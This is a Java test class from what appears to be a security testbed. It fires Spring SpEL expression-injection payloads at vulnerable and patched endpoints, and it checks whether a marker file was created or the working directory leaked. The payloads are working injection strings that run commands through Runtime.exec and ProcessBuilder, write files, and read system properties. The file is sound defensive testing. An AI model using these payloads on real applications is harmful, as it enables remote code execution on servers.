package secplane.testbeds.attacks.injection;

import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * Expression language injection (CWE-917) into Spring SpEL: {@code /spel/eval?expr=} evaluates the
 * input as a formula, {@code /spel/greet?name=} pastes it into a string literal. Evidence: a marker
 * file that the expression created (through {@code Runtime.exec}, {@code ProcessBuilder} or a
 * {@code FileOutputStream}), or the app's working directory read from a system property.
 */
public final class ExpressionInjectionAttack extends InjectionAttack {

    public enum Variant implements InjectionVariant {
        RUNTIME_EXEC("/spel/eval", "T(java.lang.Runtime).getRuntime().exec(new String[]{'touch', '<marker>'})"),
        PROCESS_BUILDER("/spel/eval", "new java.lang.ProcessBuilder(new String[]{'touch', '<marker>'}).start()"),
        FILE_WRITE("/spel/eval", "new java.io.FileOutputStream('<marker>').close()"),
        SYSTEM_PROPERTY("/spel/eval", "T(java.lang.System).getProperty('user.dir')"),
        TEMPLATE_RUNTIME_EXEC("/spel/greet", "' + T(java.lang.Runtime).getRuntime().exec(new String[]{'touch', '<marker>'}) + '"),
        TEMPLATE_SYSTEM_PROPERTY("/spel/greet", "' + T(java.lang.System).getProperty('user.dir') + '");

        private final String endpoint;
        private final String payload;

        Variant(String endpoint, String payload) {
            this.endpoint = endpoint;
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return endpoint;
        }

        @Override
        public String payload() {
            return payload;
        }

        boolean readsProperty() {
            return this == SYSTEM_PROPERTY || this == TEMPLATE_SYSTEM_PROPERTY;
        }
    }

    @Override
    public Category category() {
        return Category.EXPRESSION;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String param = variant.endpoint().equals("/spel/eval") ? "expr" : "name";
        String path = twin.path(variant.endpoint());
        if (variant.readsProperty()) {
            HttpResponse<String> response = get(target, path, param, variant.payload());
            String workDir = target.workDir().toString();
            boolean leaked = response.body().contains(workDir);
            return result(variant, twin, leaked, response.statusCode(), leaked
                    ? "the response shows the app's user.dir " + workDir
                    : "no user.dir in: " + abbreviate(response.body()));
        }
        Path marker = Files.createTempDirectory("secplane-expression-").resolve("marker-" + UUID.randomUUID());
        try {
            HttpResponse<String> response = get(target, path, param, variant.payload().replace("<marker>", marker.toString()));
            boolean created = awaitFile(marker, Duration.ofMillis(twin == Twin.VULNERABLE ? 3000 : 500));
            return result(variant, twin, created, response.statusCode(), created
                    ? "the expression created " + marker
                    : "no marker file " + marker + " (" + abbreviate(response.body()) + ")");
        } finally {
            deleteMarker(marker);
        }
    }
}
